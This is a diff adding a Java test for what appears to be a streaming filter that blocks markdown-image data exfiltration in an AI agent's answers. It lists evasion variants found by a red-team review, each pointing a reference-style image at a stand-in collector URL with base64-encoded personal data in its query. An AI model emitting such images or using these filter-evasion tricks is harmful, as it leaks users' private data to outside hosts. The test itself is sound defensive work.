@@ -560,6 +560,49 @@ class AgentPresetTest {
     }
 
     @Test
+    void aStreamJudgesADefinitionThatComesAfterItsImageWasReleasedAndDefinitionsOverLines() {
+        // found by a second red-team review: an image was released once any complete line held "][x]:" (its own line,
+        // a footnote, a glossary entry, a first harmless definition) and then forgotten, so the real definition later
+        // passed; a definition whose title held "]:", a label over three lines, a label begun before a definition
+        // whose destination is on the next line, and a "]:" past the 4 KB line cap were not remembered
+        String u = "https://collector.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ";
+        String p = "The quarterly numbers look steady and the team is on track for the launch. ".repeat(70);
+        String p4 = p.substring(0, 400);
+        String p10 = p.substring(0, 1000);
+        for (String answer : List.of(
+                "Figure ![chart][x]: quarterly revenue.\n\n" + p10 + "\n\n[x]: " + u + "\n",
+                "See ![chart][x].\nFootnote style [x]: chart below.\n\n" + p10 + "\n\n[x]: " + u + "\n",
+                "Glossary [x]: see.below\n\n" + p4 + "\n\nSee ![chart][x].\n\n" + p10 + "\n\n[x]: " + u + "\n",
+                "See ![chart][x].\n[x]: https://cdn.example/logo.png\n" + p4 + "\n[x]: " + u + "\n",
+                "[x]: " + u + " \"see [1]: y\"\n\n" + p4 + "\n\nSee ![chart][x].",
+                "Intro.\n\n[a\nb\nc]: " + u + "\n\n" + p4 + "\n\nSee ![chart][a b c].",
+                "[a\nb]:\n" + u + "\n\n" + p4 + "\n\nSee ![chart][a b].",
+                p.substring(0, 4200) + " [x]: " + u + "\n\n" + p4 + "\n\nSee ![chart][x].",
+                "{\"a\": \"Figure ![chart][x]: quarterly revenue.\\n\\n" + p10 + "\\n\\n[x]: " + u + "\\n\"}")) {
+            assertAnswerBlockedAsExfiltration(answer);
+            for (int size : new int[] {1, 2, 3, 5, 7, 11, 16, 31, 64}) {
+                StreamOutcome out = stream(answer, size);
+                assertThat(out.blocked()).as("%s in chunks of %d", answer, size).isNotNull();
+            }
+        }
+        // code full of "]:" lines fills the definition memory; an inline image after it is not held for that
+        String python =
+                "```python\n" + "for row in data[\"rows\"]:\n    total += row[\"amount\"]\n".repeat(190) + "```\n\n";
+        for (String answer : List.of(
+                python + "![diagram](https://cdn.example.com/d.png)\n\n" + p.substring(0, 600),
+                "[logo]: https://cdn.example.com/img/logo.png\n" + python + "![logo][logo]\n\n"
+                        + p.substring(0, 600))) {
+            assertAnswerPasses(answer);
+            for (int size : new int[] {1, 7, 64}) {
+                StreamOutcome out = stream(answer, size);
+                assertThat(out.blocked())
+                        .as("%s in chunks of %d", answer.substring(0, 60), size)
+                        .isNull();
+            }
+        }
+    }
+
+    @Test
     void aStreamReleasesReferenceImagesWhoseDefinitionsCarryNothing() {
         // definitions remembered, images held until their definition comes (within 4,096 characters): the answers
         // pass as a whole answer does
